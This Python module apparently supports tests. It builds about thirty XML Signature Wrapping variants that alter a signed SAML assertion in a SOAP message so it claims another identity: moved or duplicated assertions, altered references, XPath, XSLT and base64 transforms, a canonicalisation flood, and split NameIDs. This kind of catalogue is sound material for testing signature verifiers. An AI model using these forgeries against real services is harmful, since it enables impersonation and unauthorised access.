"""Signature wrapping, shape by shape: each takes a right message and makes it claim somebody else.

What each shape hopes for is told in its docstring. `EVIL` is who it would be.
"""

import copy
from collections.abc import Callable

from lxml import etree

from schemas.soap import envelope as soap
from schemas.vihf.model import SAML
from schemas.vihf.signature import DS, ENVELOPED, EXC_C14N
from schemas.xml import Element

EVIL = "899700100029"
ASSERTION, SIGNATURE = f"{{{SAML}}}Assertion", f"{{{DS}}}Signature"
SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol"
WSU = "http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-utility-1.0.xsd"
Attack = Callable[[Element, Element], None]


def assertion_of(root: Element) -> Element:
    found = root.find(f".//{ASSERTION}")
    assert found is not None
    return found


def forged(original: Element, *, signed: bool = True) -> Element:
    """A copy that claims somebody else, under another ID; with the signature of the original, or none."""
    evil = copy.deepcopy(original)
    name = evil.find(f".//{{{SAML}}}NameID")
    assert name is not None
    name.text = EVIL
    evil.set("ID", "_evil")
    if not signed:
        evil.remove(_signature(evil))
    return evil


def _signature(assertion: Element) -> Element:
    found = assertion.find(SIGNATURE)
    assert found is not None
    return found


def _parent(element: Element) -> Element:
    parent = element.getparent()
    assert parent is not None
    return parent


def _header(root: Element) -> Element:
    found = root.find(f"{{{soap.SOAP}}}Header")
    assert found is not None
    return found


def _bare(original: Element) -> Element:
    """The original as it was signed: without its signature."""
    inner = copy.deepcopy(original)
    inner.remove(_signature(inner))
    return inner


def sibling_first(root: Element, original: Element) -> None:
    """A reader that takes the first assertion, a verifier that takes the first signature."""
    original.addprevious(forged(original, signed=False))


def sibling_last(root: Element, original: Element) -> None:
    """A reader that takes the last assertion."""
    original.addnext(forged(original, signed=False))


def duplicated_id(root: Element, original: Element) -> None:
    """Two assertions of one ID: the reference resolves to one, the reader takes the other."""
    evil = forged(original)
    evil.set("ID", original.get("ID", ""))
    original.addprevious(evil)


def id_on_the_body(root: Element, original: Element) -> None:
    """Something else bears the ID, under another name of attribute."""
    body = root.find(f"{{{soap.SOAP}}}Body")
    assert body is not None
    body.set(f"{{{WSU}}}Id", original.get("ID", ""))


def in_object(root: Element, original: Element) -> None:
    """The original goes into a ds:Object of the forged one's signature."""
    evil = forged(original)
    etree.SubElement(_signature(evil), f"{{{DS}}}Object").append(_bare(original))
    _parent(original).replace(original, evil)


def in_signature(root: Element, original: Element) -> None:
    """The original becomes a child of the forged one's signature."""
    evil = forged(original)
    _signature(evil).append(_bare(original))
    _parent(original).replace(original, evil)


def in_key_info(root: Element, original: Element) -> None:
    """The original hides in KeyInfo, which is not signed and may hold anything."""
    evil = forged(original)
    key_info = _signature(evil).find(f"{{{DS}}}KeyInfo")
    assert key_info is not None
    key_info.append(_bare(original))
    _parent(original).replace(original, evil)


def in_extensions(root: Element, original: Element) -> None:
    """The original goes into samlp:Extensions, the forged one takes its signature."""
    evil = forged(original)
    security = _parent(original)
    security.replace(original, evil)
    etree.SubElement(security, f"{{{SAMLP}}}Extensions").append(_bare(original))


def in_another_header(root: Element, original: Element) -> None:
    """The original, signature and all, goes under another header block."""
    evil = forged(original, signed=False)
    _parent(original).replace(original, evil)
    etree.SubElement(_header(root), "{urn:x}wrapper").append(original)


def in_another_security(root: Element, original: Element) -> None:
    """A second wsse:Security, for another actor."""
    second = copy.deepcopy(_parent(original))
    second.set(f"{{{soap.SOAP}}}role", "urn:x")
    second.replace(second[0], forged(original, signed=False))
    _header(root).append(second)


def in_advice(root: Element, original: Element) -> None:
    """The original advises the forged one."""
    evil = forged(original, signed=False)
    _parent(original).replace(original, evil)
    etree.SubElement(evil, f"{{{SAML}}}Advice").append(original)


def in_subject(root: Element, original: Element) -> None:
    """The original confirms the subject of the forged one."""
    evil = forged(original, signed=False)
    _parent(original).replace(original, evil)
    subject = evil.find(f"{{{SAML}}}Subject")
    assert subject is not None
    data = etree.SubElement(subject, f"{{{SAML}}}SubjectConfirmationData")
    data.append(original)


def in_body(root: Element, original: Element) -> None:
    """The original goes down to the body, a forged one without signature stays."""
    body = root.find(f"{{{soap.SOAP}}}Body")
    assert body is not None
    _parent(original).replace(original, forged(original, signed=False))
    body.append(original)


def reference_to_a_sibling(root: Element, original: Element) -> None:
    """The forged one bears the signature, which refers to a sibling: not an assertion by its name."""
    evil = forged(original)
    security = _parent(original)
    hidden = _bare(original)
    hidden.tag = "{urn:x}Assertion"
    security.replace(original, evil)
    security.append(hidden)


def signature_moved(root: Element, original: Element) -> None:
    """The signature hides in an element of the assertion."""
    signature = _signature(original)
    original.remove(signature)
    etree.SubElement(original, "{urn:x}wrapper").append(signature)


def signature_beside(root: Element, original: Element) -> None:
    """The signature is detached, beside a changed assertion."""
    signature = _signature(original)
    _parent(original).append(signature)
    name = original.find(f".//{{{SAML}}}NameID")
    assert name is not None
    name.text = EVIL


def two_signatures(root: Element, original: Element) -> None:
    """The right signature, and one that refers to the body."""
    second = copy.deepcopy(_signature(original))
    reference = second.find(f".//{{{DS}}}Reference")
    assert reference is not None
    reference.set("URI", "#body")
    original.append(second)


def two_references(root: Element, original: Element) -> None:
    """A reference to nothing of interest, first."""
    reference = original.find(f".//{{{DS}}}Reference")
    assert reference is not None
    other = copy.deepcopy(reference)
    other.set("URI", "")
    reference.addprevious(other)


def _renamed(original: Element, uri: str | None) -> None:
    reference = original.find(f".//{{{DS}}}Reference")
    assert reference is not None
    if uri is None:
        del reference.attrib["URI"]
    else:
        reference.set("URI", uri)


def reference_to_the_document(root: Element, original: Element) -> None:
    """URI="" is the whole document."""
    _renamed(original, "")


def reference_by_xpointer(root: Element, original: Element) -> None:
    """The same ID said in XPointer, which readers resolve otherwise."""
    _renamed(original, f"#xpointer(id('{original.get('ID')}'))")


def reference_to_nothing(root: Element, original: Element) -> None:
    """No URI: the application knows, says XML Signature."""
    _renamed(original, None)


def _transforms(original: Element) -> Element:
    found = original.find(f".//{{{DS}}}Transforms")
    assert found is not None
    return found


def _transform(original: Element, algorithm: str, content: str = "", *, at: int = 1) -> None:
    """One transform more: it would leave out of the digest what is changed."""
    step = etree.fromstring(f'<ds:Transform xmlns:ds="{DS}" Algorithm="{algorithm}">{content}</ds:Transform>')
    _transforms(original).insert(at, step)
    name = original.find(f".//{{{SAML}}}NameID")
    assert name is not None
    name.text = EVIL


def transform_xpath(root: Element, original: Element) -> None:
    """XPath leaves the NameID out of what is digested."""
    _transform(
        original,
        "http://www.w3.org/TR/1999/REC-xpath-19991116",
        f'<ds:XPath xmlns:s="{SAML}">not(ancestor-or-self::s:NameID)</ds:XPath>',
    )


def transform_xpath_filter(root: Element, original: Element) -> None:
    """XPath Filter 2.0 subtracts it."""
    filter2 = "http://www.w3.org/2002/06/xmldsig-filter2"
    content = f'<f:XPath xmlns:f="{filter2}" xmlns:s="{SAML}" Filter="subtract">//s:NameID</f:XPath>'
    _transform(original, filter2, content)


def transform_xslt(root: Element, original: Element) -> None:
    """XSLT rewrites it."""
    content = (
        '<x:stylesheet xmlns:x="http://www.w3.org/1999/XSL/Transform" version="1.0">'
        '<x:template match="/"><x:copy-of select="."/></x:template></x:stylesheet>'
    )
    _transform(original, "http://www.w3.org/TR/1999/REC-xslt-19991116", content)


def transform_base64(root: Element, original: Element) -> None:
    """base64 digests the text alone: elements may move."""
    _transform(original, f"{DS}base64", at=0)


def transform_enveloped_twice(root: Element, original: Element) -> None:
    """The enveloped transform again, at the end of a list that grows."""
    _transform(original, ENVELOPED, at=2)


def transforms_swapped(root: Element, original: Element) -> None:
    """Canonical first: what comes after works on bytes."""
    holder = _transforms(original)
    holder.append(holder[0])


def transforms_many(root: Element, original: Element) -> None:
    """A hundred canonicalisations, to keep the service busy."""
    for _ in range(100):
        etree.SubElement(_transforms(original), f"{{{DS}}}Transform", Algorithm=EXC_C14N)


def transforms_none(root: Element, original: Element) -> None:
    """No transform: the signature would digest itself."""
    holder = _transforms(original)
    _parent(holder).remove(holder)


def transform_with_comments(root: Element, original: Element) -> None:
    """Comments are kept by one reader and dropped by the other."""
    _transforms(original)[1].set("Algorithm", f"{EXC_C14N}WithComments")


def instruction_in_the_name(root: Element, original: Element) -> None:
    """A processing instruction cuts the name for a reader that takes the first text node."""
    name = original.find(f".//{{{SAML}}}NameID")
    assert name is not None
    text = name.text or ""
    name.text = text[:6]
    cut = etree.ProcessingInstruction("x", "y")
    cut.tail = text[6:]
    name.append(cut)


def element_in_the_name(root: Element, original: Element) -> None:
    """An element cuts it."""
    name = original.find(f".//{{{SAML}}}NameID")
    assert name is not None
    text = name.text or ""
    name.text = text[:6]
    etree.SubElement(name, "{urn:x}b").tail = text[6:]


ATTACKS: tuple[Attack, ...] = (
    sibling_first,
    sibling_last,
    duplicated_id,
    id_on_the_body,
    in_object,
    in_signature,
    in_key_info,
    in_extensions,
    in_another_header,
    in_another_security,
    in_advice,
    in_subject,
    in_body,
    reference_to_a_sibling,
    signature_moved,
    signature_beside,
    two_signatures,
    two_references,
    reference_to_the_document,
    reference_by_xpointer,
    reference_to_nothing,
    transform_xpath,
    transform_xpath_filter,
    transform_xslt,
    transform_base64,
    transform_enveloped_twice,
    transforms_swapped,
    transforms_many,
    transforms_none,
    transform_with_comments,
    instruction_in_the_name,
    element_in_the_name,
)
